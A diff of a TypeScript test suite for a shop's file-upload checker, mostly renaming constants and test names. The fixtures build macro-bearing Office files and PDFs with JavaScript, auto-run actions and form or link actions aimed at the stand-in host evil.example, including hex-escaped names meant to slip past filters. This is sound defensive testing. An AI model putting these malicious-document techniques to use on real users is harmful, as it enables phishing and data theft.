@@ -60,7 +60,7 @@ const createTypes = (main: string, ...more: string[]): Part => ({
 const XLSM = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
 const workbook: Part = { name: 'xl/workbook.xml', body: '<workbook/>' };
 const OLE_HEAD = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
-const DEEP = `<a>${'<b x="1">'.repeat(900)}${'</b>'.repeat(900)}</a>`;
+const DEEP_XML = `<a>${'<b x="1">'.repeat(900)}${'</b>'.repeat(900)}</a>`;
 
 const ACCEPTED: [string, string, () => Buffer | Promise<Buffer>][] = [
   [
@@ -101,7 +101,7 @@ const ACCEPTED: [string, string, () => Buffer | Promise<Buffer>][] = [
     () => createZip([createTypes(XLSM, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), workbook]),
   ],
   ['doc', 'of Word 97', () => createOleFile('Root Entry', 'WordDocument', '1Table', '\x05SummaryInformation')],
-  ['pdf', 'of the smallest kind', () => PDF],
+  ['pdf', 'of the smallest valid form', () => PDF],
   ['pdf', 'with packed objects', () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/Parent 1 0 R>>'))],
   [
     'pdf',
@@ -121,10 +121,10 @@ const ACCEPTED: [string, string, () => Buffer | Promise<Buffer>][] = [
       ),
   ],
   ['pdf', 'that opens at a page by an action', () => createPdf('<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R /Fit]>>>>')],
-  ['pdf', 'that opens at a place written elsewhere', () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '[3 0 R /Fit]')],
+  ['pdf', 'that opens at a place in a referenced object', () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '[3 0 R /Fit]')],
   [
     'pdf',
-    'that opens at a place that is packed',
+    'that opens at a place in packed objects',
     () => createPdf('<</Type/Catalog/OpenAction 7 0 R>>', createObjectStream(7, '<</S /GoTo/D[2 0 R /Fit]>>')),
   ],
   [
@@ -132,7 +132,7 @@ const ACCEPTED: [string, string, () => Buffer | Promise<Buffer>][] = [
     'with a tag of a thousand attributes',
     () => Buffer.from(`<a ${Array.from({ length: 1_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`),
   ],
-  ['xml', 'nine hundred deep', () => Buffer.from(DEEP)],
+  ['xml', 'nine hundred deep', () => Buffer.from(DEEP_XML)],
 ];
 
 describe('the shop accepts', () => {
@@ -144,11 +144,11 @@ describe('the shop accepts', () => {
   });
 });
 
-const createDocx = (...context: Part[]) => createOfficeFile('docx', ...context);
-const createXlsx = (...context: Part[]) => createOfficeFile('xlsx', ...context);
+const createDocx = (...parts: Part[]) => createOfficeFile('docx', ...parts);
+const createXlsx = (...parts: Part[]) => createOfficeFile('xlsx', ...parts);
 const createProgram = (head: string) => Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(200)]);
 
-const OFFICE: [string, Refusal, () => Buffer][] = [
+const REFUSED_OFFICE_FILES: [string, Refusal, () => Buffer][] = [
   ['a macro', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/vbaProject.bin', body: OLE_HEAD })],
   ['a macro in a file that claims to have none', HAS_PROGRAMS, () => createXlsx({ name: 'xl/vbaProject.bin', body: OLE_HEAD })],
   ['a macro under the name of a sheet', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/worksheets/sheet1.xml', body: OLE_HEAD })],
@@ -204,7 +204,7 @@ const OFFICE: [string, Refusal, () => Buffer][] = [
   ],
   ['a font', HAS_FORBIDDEN_PARTS, () => createDocx({ name: 'word/fonts/font1.odttf', body: 'font' })],
   [
-    'a macro by the type of a part that is nowhere',
+    'a macro by the type of a part that does not exist',
     HAS_PROGRAMS,
     () => createZip([createTypes(XLSM, '<Override PartName="/xl/a%2exml" ContentType="application/vnd.ms-office.vbaProject"/>'), workbook]),
   ],
@@ -287,7 +287,7 @@ const OFFICE: [string, Refusal, () => Buffer][] = [
   ['nothing of Word in it', KIND_IS_UNKNOWN, () => createZip([createContentTypes('xlsx'), { name: 'word/document.xml', body: '<a/>' }])],
 ];
 
-const OLD: [string, string[]][] = [
+const REFUSED_OLD_WORD_FILES: [string, string[]][] = [
   ['a macro', ['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT']],
   ['a macro in other capitals', ['WordDocument', '_vba_Project']],
   ['embedded objects', ['WordDocument', 'ObjectPool']],
@@ -298,7 +298,7 @@ const OLD: [string, string[]][] = [
 const createCatalog = (more: string) => createPdf(`<</Type/Catalog${more}>>`);
 const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const createPackedPdf = (...heads: string[]) => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page>>', heads.join('')));
-const PDFS: [string, Refusal, () => Buffer][] = [
+const REFUSED_PDFS: [string, Refusal, () => Buffer][] = [
   ['a script', HAS_SCRIPTS, () => createCatalog(`/OpenAction${SCRIPT}`)],
   ['a script in a comment field', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', `<</Type/Annot/A${SCRIPT}>>`)],
   ['a script in codes', HAS_SCRIPTS, () => createCatalog('/A<</S/J#61va#53cript/J#53(a)>>')],
@@ -309,12 +309,12 @@ const PDFS: [string, Refusal, () => Buffer][] = [
     () => createPdf('<</Type/Catalog>>', createPdfStream('/Type/ObjStm/N 1/First 4', `9 0 ${SCRIPT}`, Buffer.from(`9 0 ${SCRIPT}`))),
   ],
   [
-    'a script in packed objects called so in codes',
+    'a script in packed objects whose type is written in character codes',
     HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/Type/Obj#53tm/N 1/Filter/#46lateDecode')),
   ],
   [
-    'a script in packed objects not called so',
+    'a script in packed objects without a type',
     HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/N 1/Filter[/FlateDecode]')),
   ],
@@ -339,26 +339,26 @@ const PDFS: [string, Refusal, () => Buffer][] = [
   ['a form of the kind that has scripts', HAS_SCRIPTS, () => createCatalog('/AcroForm<</XFA[(template)5 0 R]>>')],
   ['actions that begin by themselves', HAS_SCRIPTS, () => createCatalog('/AA<</WC<</S/Named/N/Print>>>>')],
   [
-    'such actions in packed objects',
+    'actions that begin by themselves, in packed objects',
     HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/AA<</O 3 0 R>>>>')),
   ],
   ['a form that sends itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/SubmitForm/F(http://evil.example)>>')],
   ['a form that fills itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/ImportData/F(a)>>')],
-  ['a way into another file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>')],
-  ['a way into an attached file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToE/T<<>>>>')],
-  ['a page of the web that opens by itself', HAS_SCRIPTS, () => createCatalog('/OpenAction<</S/URI/URI(http://evil.example)>>')],
+  ['a link into another file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>')],
+  ['a link into an attached file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToE/T<<>>>>')],
+  ['a web page that opens by itself', HAS_SCRIPTS, () => createCatalog('/OpenAction<</S/URI/URI(http://evil.example)>>')],
   [
-    'such a page written elsewhere',
+    'a web page that opens by itself, in a referenced object',
     HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(http://evil.example)>>'),
   ],
   [
-    'such a page in packed objects',
+    'a web page that opens by itself, in packed objects',
     HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog/OpenAction 9 0 R>>', createObjectStream(9, '<</S/URI/URI(http://evil.example)>>')),
   ],
-  ['an action that is nowhere', HAS_SCRIPTS, () => createCatalog('/OpenAction 77 0 R')],
+  ['an open action that refers to no object', HAS_SCRIPTS, () => createCatalog('/OpenAction 77 0 R')],
   ['a password', CANNOT_BE_CHECKED, () => Buffer.from(PDF.toString().replace('/Root', '/Encrypt 5 0 R/Root'))],
   ['objects packed in another way', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter/LZWDecode')],
   ['objects packed twice', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter[/FlateDecode/FlateDecode]')],
@@ -390,7 +390,9 @@ describe('the shop refuses, with a reason,', () => {
     expect(await listFiles()).toEqual([]);
   };
 
-  test.each(OFFICE)('an Office file with %s', async (_, why, createFile) => expectRefused(createFile(), why));
-  test.each(OLD)('an old Word file with %s', async (_, streams) => expectRefused(createOleFile('Root Entry', ...streams), HAS_PROGRAMS));
-  test.each(PDFS)('a PDF with %s', async (_, why, createFile) => expectRefused(createFile(), why));
+  test.each(REFUSED_OFFICE_FILES)('an Office file with %s', async (_, refused, createFile) => expectRefused(createFile(), refused));
+  test.each(REFUSED_OLD_WORD_FILES)('an old Word file with %s', async (_, streams) =>
+    expectRefused(createOleFile('Root Entry', ...streams), HAS_PROGRAMS),
+  );
+  test.each(REFUSED_PDFS)('a PDF with %s', async (_, refused, createFile) => expectRefused(createFile(), refused));
 });
